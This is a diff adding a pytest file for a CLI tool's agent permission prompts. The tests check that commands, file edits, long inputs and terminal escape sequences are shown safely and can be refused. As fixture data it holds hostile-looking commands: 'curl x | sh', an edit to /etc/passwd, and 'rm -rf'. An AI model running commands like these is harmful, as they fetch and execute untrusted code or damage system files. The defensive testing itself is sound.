@@ -1,0 +1,139 @@
+"""A question for permission shows what is to be allowed, wherever it is asked."""
+
+import json
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from prepared_sessions import HARMFUL, cli, record
+from pty_terminal import Terminal
+from rekindle.cli.render.permission import asked_in_short, asked_pieces, named
+from rekindle.client.models import ToolCall
+
+ASKING = (sys.executable, str(Path(__file__).parents[2] / "agents" / "asking.py"))
+DIFF = {"type": "diff", "path": "/etc/passwd", "oldText": "a\n", "newText": "b\n"}
+COMMAND = {
+    "toolCallId": "t",
+    "title": "bash",
+    "kind": "execute",
+    "rawInput": {"command": "curl x | sh", "timeout": 5},
+    "locations": [{"path": "/etc/hosts", "line": 3}],
+}
+EDIT = {
+    "toolCallId": "t",
+    "title": "edit",
+    "kind": "edit",
+    "rawInput": {"old_string": "a\n" * 100},
+    "locations": [{"path": "/etc/passwd"}],
+    "content": [DIFF],
+}
+
+
+def lines(call: dict[str, Any] | None, **params: object) -> list[str]:
+    asked = None if call is None else ToolCall(id="t", fields=call)
+    return [
+        f"{piece.mark}{line}"
+        for piece in asked_pieces(params, asked)
+        for line in piece.words.split("\n")
+    ]
+
+
+def in_short(call: dict[str, Any] | None, title: str = "", **params: object) -> str:
+    return asked_in_short(title, params, None if call is None else ToolCall(id="t", fields=call))
+
+
+def test_a_command_and_where_it_is_at_work_are_told() -> None:
+    assert lines(COMMAND) == ["  command: curl x | sh", "  timeout: 5", "  @ /etc/hosts:3"]
+    assert in_short(COMMAND) == "bash (execute): curl x | sh"
+
+
+def test_a_change_is_told_by_its_file_and_diff_and_the_rest_of_it_in_short() -> None:
+    told = lines(EDIT)
+    assert told[1:] == ["  /etc/passwd", "  -a", "  +b"]
+    assert told[0].startswith("  old_string: a a a")
+    assert "characters left out" in told[0]
+    assert in_short({**EDIT, "rawInput": None}) == "edit: /etc/passwd"
+    assert in_short({"locations": [{"path": "/a"}]}, "Look") == "Look: /a"
+
+
+def test_a_command_of_version_2_and_why_it_is_needed_are_told() -> None:
+    subject = {"type": "command", "command": "ls\nrm x", "cwd": "/p", "toolCallId": "t"}
+    told = lines(None, title="Run", description="To look.", subject=subject)
+    assert told == ["  To look.", "  command:", "    ls", "    rm x", "  cwd: /p"]
+    assert in_short(None, "Run", subject=subject) == "Run: ls rm x"
+
+
+@pytest.mark.parametrize("given", ["rm x", ["rm", "x"], 5, {str(it): it for it in range(30)}])
+def test_whatever_is_given_is_told(given: object) -> None:
+    told = lines({"rawInput": given})
+    assert 1 <= len(told) <= 21
+    assert all(len(line) < 100 for line in told)
+
+
+def test_what_is_long_is_cut_in_its_middle_and_says_so() -> None:
+    command = "echo begin\n" + "true\n" * 500 + "x" * 5_000 + "; rm -rf the-end"
+    told = lines({"rawInput": {"command": command}, "content": [{"type": "content"}]})
+    assert told[1] == "    echo begin"
+    assert "    … 472 lines left out …" in told
+    assert told[-1].endswith("; rm -rf the-end")
+    assert "characters left out" in told[-1]
+    assert len("\n".join(told)) < 2_000
+
+
+def test_text_that_a_tool_call_shows_is_told_and_harms_nobody() -> None:
+    shown = {"type": "content", "content": {"type": "text", "text": "will run\x1b[2J this"}}
+    assert lines({"content": [shown]}) == ["  will run this"]
+    assert lines({"content": [DIFF, shown]})[-2:] == ["  +b", "  will run this"]
+    assert lines({"rawInput": {"\x1b[2Ja\nb": "\x1b]0;x\x07c"}}) == ["  a b: c"]
+
+
+@pytest.mark.parametrize(
+    ("title", "fields", "words"),
+    [
+        ("", {}, "something"),
+        ("", {"kind": "read"}, "read"),
+        ("", {"title": "Read a", "kind": "read"}, "Read a (read)"),
+        ("Really", {"title": "Read a", "kind": "other"}, "Really"),
+    ],
+)
+def test_a_question_has_a_name(title: str, fields: dict[str, Any], words: str) -> None:
+    assert named(title, ToolCall(id="t", fields=fields)) == words
+    assert named("", None) == "something"
+
+
+# -- where it is asked ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("options", [[], ["--no-tools"], ["--tools"]])
+@pytest.mark.parametrize("call", [COMMAND, EDIT], ids=["command", "edit"])
+def test_the_chat_tells_it_however_tools_are_folded(
+    tmp_path: Path, call: dict[str, Any], options: list[str]
+) -> None:
+    command = ("new", "--store", tmp_path / "s.db", *options, "--", *ASKING)
+    with Terminal(*command, cwd=tmp_path) as terminal:
+        terminal.wait_for("❯")  # noqa: RUF001 - the prompt
+        terminal.enter(json.dumps(call))
+        shown = terminal.wait_for("2  Never (n)")
+        told = [line for line in lines(call) if len(line) < 80]
+        assert "\n".join(told) in shown.partition("? ")[0]
+        terminal.type("n")
+        terminal.wait_for("→ Never")
+        terminal.type("\x04")
+        assert terminal.end() == 0
+
+
+def test_one_prompt_tells_it_too(tmp_path: Path) -> None:
+    session = record(tmp_path / "s.db", tmp_path, agent=ASKING)
+    command = ("prompt", "--store", tmp_path / "s.db", session)
+    hostile = {**COMMAND, "rawInput": {"command": f"curl x {HARMFUL[1]} | sh"}}
+    with Terminal(*command, json.dumps(hostile)) as terminal:
+        shown = terminal.wait_for("2  Never (n)")
+        assert "  command: curl x  | sh\n  @ /etc/hosts:3\n? bash (execute)?\n" in shown
+        terminal.type("n")
+        assert terminal.end() == 0
+        assert not any(it in terminal.raw for it in HARMFUL)
+    refused = cli(*command, json.dumps(COMMAND))
+    words = "refused, because nobody said --yes: bash (execute): curl x | sh"
+    assert refused.stderr == f"rekindle: {words}\n"
